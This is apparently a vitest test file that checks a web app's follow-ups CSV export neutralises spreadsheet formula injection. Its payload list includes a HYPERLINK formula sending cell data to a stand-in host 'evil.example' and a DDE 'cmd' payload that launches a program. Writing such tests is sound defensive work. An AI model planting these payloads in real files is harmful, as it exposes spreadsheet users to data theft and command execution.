/**
 * Issue #13, CSV formula injection: the follow-ups CSV is opened in spreadsheets, so no cell that
 * an attendee can fill may start with a character a spreadsheet reads as a formula (`=`, `+`, `-`,
 * `@`, tab, CR) unless it is neutralised with a leading `'`.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { api } from '../helpers/session-api.ts';
import { startServer, type TestServer } from '../helpers/server.ts';

const SESSION = 'containers-cr';
const TOPIC = 'android-containers';
const FORMULA_START = /^[=+\-@\t\r]/;

let s: TestServer;
afterEach(async () => s.close());

describe('follow-ups CSV', () => {
  it('neutralises every cell that a spreadsheet would read as a formula', async () => {
    s = await startServer();
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
    for (const text of payloads) {
      const created = await api(s, 'POST', `/api/sessions/${SESSION}/action-items`, { topicId: TOPIC, text, createdBy: text.slice(0, 20) });
      expect(created.status).toBe(201);
      const assigned = await api(s, 'PATCH', `/api/sessions/${SESSION}/action-items/${created.json.id}`, { assignee: { name: text, email: '=x@example.org' }, due: '2019-10-01' });
      expect(assigned.status).toBe(200);
    }
    const response = await fetch(`${s.url}/api/events/lpc2019/followups?format=csv`);
    expect(response.status).toBe(200);
    const rows = parseCsv(await response.text(), { relax_quotes: true }) as string[][];
    const cells = rows.slice(1).flat();
    expect(rows.length).toBe(payloads.length + 1);
    const dangerous = cells.filter((cell) => FORMULA_START.test(cell));
    expect(dangerous).toEqual([]);
    // Neutralised, not dropped: the text is still there after the quote.
    for (const text of payloads) expect(cells).toContain(`'${text}`);
  });
});
